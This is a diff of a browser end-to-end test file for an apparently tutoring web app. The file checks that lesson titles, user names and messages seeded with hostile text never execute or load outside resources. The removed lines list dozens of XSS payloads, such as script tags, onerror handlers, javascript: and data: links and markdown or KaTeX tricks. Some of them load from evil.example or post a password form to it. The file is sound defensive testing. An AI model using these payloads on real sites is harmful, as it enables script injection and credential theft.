@@ -2,56 +2,26 @@
 
 from __future__ import annotations
 
+import asyncio
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import replace
+
 import pytest
+from benchmarks.servers import Server
 from playwright.sync_api import expect
-from tests.e2e.conftest import Visit
+from tests.e2e.conftest import OpenVisit, Visit
+from tests.fakes.hostile_text import PAYLOADS
 from tests.fakes.scripted_model import Script, ScriptedModel
 
-pytestmark = pytest.mark.browser
+from masterx.clock import SystemClock, new_id
+from masterx.records.messages import Message, MessageRole
+from masterx.records.sessions import Session
+from masterx.records.turns import TurnRecord
+from masterx.records.users import User
+from masterx.settings import StoreSettings
+from masterx.store.opening import open_store
 
-PAYLOADS = (
-    "<script>window.hit=1</script>",
-    "<script src=//evil.example/x.js></script>",
-    "<img src=x onerror=window.hit=1>",
-    "<img src=https://evil.example/pixel.png>",
-    "![pixel](https://evil.example/pixel.png)",
-    "![x](javascript:window.hit=1)",
-    "<svg onload=window.hit=1>",
-    "<svg><script>window.hit=1</script></svg>",
-    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
-    "<iframe src=javascript:window.hit=1></iframe>",
-    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
-    "<body onload=window.hit=1>",
-    "<details open ontoggle=window.hit=1>",
-    "<a href=javascript:window.hit=1>press</a>",
-    "[press](javascript:window.hit=1)",
-    "[press](JaVaScRiPt&colon;window.hit=1)",
-    "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
-    "[press](vbscript:window.hit)",
-    '[press](https://good.example "\\" onmouseover=window.hit=1")',
-    '<a href="https://good.example" onclick="window.hit=1" class="button button--main">Sign in</a>',
-    "<form action=https://evil.example><input name=password></form>",
-    "<style>body{display:none}</style>",
-    '<div style="position:fixed;inset:0">covered</div>',
-    '<span class="skip" data-action="close-dialog" id="composer">mine</span>',
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<base href=https://evil.example/>",
-    "<object data=javascript:window.hit=1></object>",
-    "<template><script>window.hit=1</script></template>",
-    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
-    "```html\n<script>window.hit=1</script>\n```",
-    "```<img/src=x/onerror=window.hit=1>\ncode\n```",
-    "`<img src=x onerror=window.hit=1>`",
-    "\\(\\href{javascript:window.hit=1}{x}\\)",
-    "\\(\\htmlStyle{position:fixed}{x}\\) \\(\\includegraphics{https://evil.example/x.png}\\)",
-    '$$\\unicode{x3c}script>window.hit=1</script>$$ \\("><img src=x onerror=window.hit=1>\\)',
-    "\\(" + "\\def\\a{\\a\\a}\\a" + "\\)",
-    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | 2 |",
-    "- [ ] <b onclick=window.hit=1>item</b>",
-    '<!--<img src="--><img src=x onerror=window.hit=1>">',
-    "<x-y onpointerenter=window.hit=1 hx-get=/sign-out hx-trigger=load>z</x-y>",
-)
+pytestmark = pytest.mark.browser
 
 TAGS = (
     "A B BLOCKQUOTE BR BUTTON CODE DEL DIV EM FIGCAPTION FIGURE H1 H2 H3 H4 H5 H6 HR I KBD LI OL P PRE S SPAN STRONG "
@@ -72,6 +42,20 @@ SURVEY = """(tags) => {
     .map((node) => node.outerHTML);
 }"""
 """What stands in the lesson and is not on the list of harmless nodes; KaTeX's own nodes are its own."""
+
+
+ANYWHERE = """() => [...document.querySelectorAll('*')]
+  .filter((node) => [...node.attributes].some(({ name }) => name.startsWith('on') || name === 'style')
+    || /^(iframe|object|embed|img|video|audio|base|frame|portal|marquee|applet)$/i.test(node.tagName)
+    || (node.tagName === 'SCRIPT' && !node.getAttribute('src')?.startsWith('/static/'))
+    || /^\\s*(?!https?:|mailto:)[a-z]+:/i.test(node.getAttribute('href') ?? ''))
+  .filter((node) => !node.closest('.katex, .turn--old, #lesson-actions, #room, .turn'))
+  .map((node) => node.outerHTML.slice(0, 200))"""
+"""What could run or load on any page; a lesson's turns have a stricter survey of their own."""
+
+
+def test_there_are_enough_of_them() -> None:
+    assert len(PAYLOADS) >= 150
 
 
 @pytest.mark.parametrize("piece_length", [1, 7, 10_000])
@@ -107,3 +91,90 @@ def test_nothing_that_a_learner_writes_runs(lesson: Visit) -> None:
     expect(lesson.page.locator(".question[data-drawn]")).to_be_visible()
     assert lesson.page.evaluate(SURVEY, TAGS) == []
     assert lesson.page.evaluate("window.hit") is None
+
+
+async def record_hostile_school(server: Server, user_id: str) -> str:
+    """Lessons whose titles, and people whose names, are the payloads. Returns the newest lesson."""
+    clock = SystemClock()
+    store = await open_store(StoreSettings(_env_file=None, data_dir=server.log.parent / "data"), clock)
+    opened = ""
+    for n, payload in enumerate(PAYLOADS):
+        now = clock.now()
+        session = Session(id=new_id(now), user_id=user_id, started_at=now, last_activity_at=now, title=payload)
+        question, answer = (
+            Message(id=new_id(now), session_id=session.id, user_id=user_id, role=role, content=payload, timestamp=now)
+            for role in (MessageRole.USER, MessageRole.ASSISTANT)
+        )
+        await store.record_turn(
+            TurnRecord(
+                session=session,
+                opens_session=True,
+                question=question,
+                answer=replace(answer, reply_to=question.id, feedback_text=payload, helpful=False),
+                calls=(),
+            )
+        )
+        await store.add_user(User(id=new_id(now), email=f"hostile{n}@example.org", name=payload, created_at=now))
+        opened = session.id
+    await store.close()
+    return opened
+
+
+def test_no_name_and_no_title_runs_anywhere(operator: OpenVisit, school: Server) -> None:
+    there = operator()
+    page = there.page
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    user = there.context.request.get(f"{there.url}/api/v1/users/me").json()["id"]
+    with ThreadPoolExecutor(1) as apart:
+        newest = apart.submit(asyncio.run, record_hostile_school(school, user)).result()
+
+    def survey() -> None:
+        assert page.evaluate(ANYWHERE) == []
+        assert page.evaluate("window.hit") is None
+        assert [url for url in asked if not url.startswith((there.url, "data:"))] == []
+
+    there.open()
+    while page.get_by_role("button", name="Older lessons").count():
+        with page.expect_response("**/lessons?cursor=*"):
+            page.get_by_role("button", name="Older lessons").click()
+        page.wait_for_timeout(50)
+    assert page.locator(".lesson-link").count() >= len(PAYLOADS)
+    shown = set(page.locator(".lesson-link").all_text_contents())
+    assert {payload.strip() for payload in PAYLOADS} <= {text.strip() for text in shown}
+    survey()
+
+    there.open(f"/lessons/{newest}")
+    expect(page.locator(".prose[data-drawn]")).to_be_visible()
+    page.locator("#lesson-menu").click()
+    page.get_by_role("menuitem", name="Rename").click()
+    page.keyboard.type("<img src=x onerror=window.hit=1>")
+    page.keyboard.press("Enter")
+    expect(page.locator("#lesson-title")).to_have_text("<img src=x onerror=window.hit=1>")
+    page.get_by_role("button", name="More to say about this answer").click()
+    survey()
+
+    people = 0
+    there.open("/admin/people")
+    while True:
+        people += page.locator("[data-person]").count()
+        survey()
+        if page.get_by_role("link", name="More people").count() == 0:
+            break
+        page.get_by_role("link", name="More people").click()
+    assert people > len(PAYLOADS)
+    page.get_by_role("button", name="Password link for").last.click()
+    expect(page.get_by_role("dialog", name="A link for a new password")).to_be_visible()
+    survey()
+
+    for payload in PAYLOADS[:12]:
+        answer = there.context.request.patch(
+            f"{there.url}/api/v1/users/me",
+            data={"name": payload[:100], "learning_preferences": {"preferred_subjects": [payload[:60]]}},
+            headers={"Origin": there.url},
+        )
+        if answer.status != 200:
+            continue
+        there.open("/settings")
+        expect(page.locator(".person-name")).to_have_text(payload[:100].strip())
+        survey()
